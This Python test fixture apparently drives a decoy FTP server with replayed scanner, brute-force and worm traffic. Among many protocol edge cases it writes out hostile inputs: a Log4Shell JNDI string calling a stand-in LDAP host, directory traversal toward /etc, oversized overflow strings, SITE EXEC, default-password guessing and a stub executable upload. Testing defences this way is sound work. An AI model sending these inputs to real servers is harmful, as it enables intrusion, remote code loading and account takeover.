# SPDX-License-Identifier: MIT
"""What scanners, brute-forcers and worms of today send to an FTP server, written before the service was looked at."""

from __future__ import annotations

from tests.decnet_decoys.services.dialogues.ftp import VARIES
from tests.decnet_decoys.services.dialogues.play import END, Kind, Step, Transfer, lines
from tests.decnet_decoys.services.dialogues.real_servers import PASSWORD, USER

_USER, _PASS = b"USER " + USER.encode(), b"PASS " + PASSWORD.encode()
_IN = lines(_USER, _PASS)


def _down(command: bytes, how: bytes = b"PASV") -> tuple[Step, ...]:
    return (how + b"\r\n", Transfer(command + b"\r\n"))


def _up(command: bytes, data: bytes, how: bytes = b"PASV") -> tuple[Step, ...]:
    return (how + b"\r\n", Transfer(command + b"\r\n", data))


DIALOGUES: dict[str, tuple[Step, ...]] = {
    "SITE in all its forms": (
        *_IN,
        *lines(
            b"SITE",
            b"SITE ",
            b"SITE HELP",
            b"SITE CHMOD",
            b"SITE CHMOD 644",
            b"SITE CHMOD 644 ga-nope",
            b"site umask",
            b"SITE UMASK 022",
            b"SITE UMASK 9",
            b"SITE UMASK",
            b"SITE IDLE 30",
            b"SITE WHO",
            b"SITE EXEC id",
            b"SITE CHMOD abc ga-nope",
            b"SITE UMASK 077",
        ),
    ),
    "MLSD and MLST": (
        *_IN,
        *lines(b"MLST", b"MLST /", b"MLSD", b"OPTS MLST Type;Size;", b"EPSV", b"MLSD /", b"MLST a b", b"mlsd"),
    ),
    "REST in all its forms": (
        *_IN,
        *lines(
            b"REST",
            b"REST 0",
            b"REST 10",
            b"REST -1",
            b"REST abc",
            b"REST 99999999999999999999",
            b"REST 1 2",
            b"REST +5",
            b"REST 0x10",
            b"REST 00012",
        ),
    ),
    "APPE to what is not there": (
        *_IN,
        b"TYPE I\r\n",
        *_up(b"APPE gb1", b"one\n"),
        *_up(b"APPE gb1", b"two\n"),
        b"SIZE gb1\r\n",
        *_down(b"RETR gb1"),
        b"DELE gb1\r\n",
        *lines(b"APPE", b"APPE gb1", b"APPE /nonexistent/x"),
    ),
    "EPSV ALL": (
        *_IN,
        *lines(
            b"EPSV ALL",
            b"PASV",
            b"PORT 127,0,0,1,200,200",
            b"EPRT |1|127.0.0.1|51400|",
            b"EPSV 1",
            b"EPSV 2",
            b"EPSV 3",
            b"EPSV x",
            b"epsv all",
        ),
        *_down(b"NLST gc-nope", b"EPSV"),
    ),
    "ABOR in all its places": (
        *_IN,
        *lines(b"ABOR"),
        b"\xff\xf4\xff\xf2ABOR\r\n",
        *lines(b"PASV", b"ABOR", b"ABOR x", b"NOOP"),
        *_down(b"NLST gd-nope"),
        b"ABOR\r\n",
    ),
    "a masscan": (b"USER anonymous\r\nPASS IEUser@\r\nSYST\r\nFEAT\r\nQUIT\r\n",),
    "a Go scanner": lines(
        b"USER anonymous", b"PASS anonymous@example.com", b"FEAT", b"TYPE I", b"OPTS UTF8 ON", b"QUIT"
    ),
    "LeakIX": lines(b"USER anonymous", b"PASS leakix@example.org", b"PASV", b"LIST", b"QUIT"),
    "a list of passwords": lines(
        *(line for word in (b"admin", b"123456", b"password") for line in (b"USER admin", b"PASS " + word))
    ),
    "a list of passwords, pipelined": (b"USER admin\r\nPASS a\r\nUSER admin\r\nPASS b\r\nUSER admin\r\nPASS c\r\n",),
    "the same account after a wrong one": (*lines(_USER, b"PASS wrong"), *_IN, *lines(b"PWD", b"QUIT")),
    "an account with a domain": lines(
        b"USER deploy@192.0.2.1", b"PASS deploy", b"USER WORKGROUP\\deploy", b"PASS deploy"
    ),
    "Log4Shell": lines(b"USER ${jndi:ldap://192.0.2.9/a}", b"PASS ${jndi:ldap://192.0.2.9/a}", b"QUIT"),
    "an overflow of old Windows servers": lines(b"USER " + b"A" * 1000, b"PASS " + b"B" * 3000, b"STOR " + b"C" * 2000),
    "directory traversal": (
        *_IN,
        *lines(
            b"CWD ../../../../../../etc",
            b"PWD",
            b"CWD ....//....//",
            b"CWD \\..\\..\\",
            b"CWD %2e%2e%2f",
            b"SIZE ..",
            b"MDTM ..",
            b"RNFR ../../etc/hostname-nope",
            b"CWD /./etc/../etc/.",
            b"PWD",
            b"CWD //etc//",
            b"PWD",
        ),
    ),
    "STAT with options": (*_IN, *lines(b"STAT -l ge-nope", b"STAT ge-nope", b"STAT /dev/null/x")),
    "LIST over nothing": (*_IN, *lines(b"LIST", b"NLST", b"RETR x", b"STOR x", b"STOU", b"APPE x")),
    "a tree of a worm": (
        *_IN,
        b"TYPE I\r\n",
        *lines(b"MKD gf1", b"CWD gf1", b"MKD a b", b"CWD a b", b"PWD"),
        *_up(b"STOR Photo.scr", b"MZ" + bytes(300)),
        b"SIZE Photo.scr\r\n",
        *_down(b"LIST"),
        *_down(b"NLST -la"),
        *lines(
            b"RNFR Photo.scr",
            b"NOOP",
            b"RNTO info.zip",
            b"RNFR Photo.scr",
            b"RNTO info.zip",
            b"DELE info.zip",
            b"DELE Photo.scr",
            b"CDUP",
            b"RMD a b",
            b"XCUP",
            b"XRMD gf1",
            b"XMKD gf2",
            b"XRMD gf2",
        ),
    ),
    "types with a form": (
        *_IN,
        *lines(
            b"TYPE A N",
            b"TYPE A T",
            b"TYPE L 8",
            b"TYPE L8",
            b"TYPE E",
            b"TYPE I x",
            b"TYPE",
            b"STRU",
            b"MODE",
            b"STRU F x",
            b"MODE S x",
        ),
    ),
    "a transfer as text, from within": (
        *_IN,
        b"TYPE I\r\n",
        *_up(b"STOR gg1", b"a\nb\n"),
        b"TYPE A\r\n",
        *_down(b"RETR gg1"),
        b"REST 2\r\n",
        *_down(b"RETR gg1"),
        b"TYPE I\r\n",
        b"REST 2\r\n",
        *_down(b"RETR gg1"),
        b"DELE gg1\r\n",
    ),
    "a range of curl": (
        *_IN,
        b"TYPE I\r\n",
        *_up(b"STOR gh1", b"0123456789"),
        *lines(b"REST 3", b"NOOP"),
        *_down(b"RETR gh1"),
        *lines(b"REST 3", b"RANG 1 2", b"SIZE gh1", b"DELE gh1"),
    ),
    "PORT of all kinds": (
        *_IN,
        *lines(
            b"PORT",
            b"PORT x",
            b"PORT 127,0,0,1,0,0",
            b"PORT 127,0,0,1,4",
            b"PORT 127,0,0,1,4,1,1",
            b"PORT 10,0,0,1,200,200",
            b"EPRT",
            b"EPRT |2|::1|5000|",
            b"EPRT |1|127.0.0.1|0|",
            b"EPRT 1",
        ),
    ),
    "commands of RFC 959 and 2228": (
        *_IN,
        *lines(
            b"CONF x",
            b"ENC x",
            b"MIC x",
            b"ADAT x",
            b"LPRT x",
            b"LPSV",
            b"HOST example.org",
            b"LANG en",
            b"CSID x",
            b"AVBL",
            b"COMB a b",
            b"MFF modify=20200101; a",
            b"MFCT 2 a",
            b"THMB",
            b"XCRC a",
            b"XMD5 a",
            b"DSIZ",
            b"HASH a",
        ),
    ),
    "the client ends in a transfer": (*_IN, *lines(b"PASV"), END),
    "QUIT with more": (*_IN, b"QUIT now\r\nNOOP\r\n"),
    "a log-in by LF, then commands": (b"USER deploy\nPASS deploy\nPWD\nSYST\n",),
    "names with tabs and tails": (
        *_IN,
        *lines(b"MKD gi1\t", b"RMD gi1\t", b"MKD  gi2", b"RMD  gi2", b"MKD gi3 ", b"RMD gi3 ", b"MKD gi3", b"RMD gi3"),
    ),
    "MDTM in its forms": (
        *_IN,
        *_up(b"STOR gj1", b"x"),
        *lines(
            b"MDTM 19990929003355 gj1",
            b"MDTM gj1",
            b"MDTM 20200101 gj1",
            b"MDTM 20200230000000 gj1",
            b"MDTM",
            b"MDTM 20210101000000",
            b"DELE gj1",
        ),
    ),
}

KIND = Kind(DIALOGUES, VARIES)
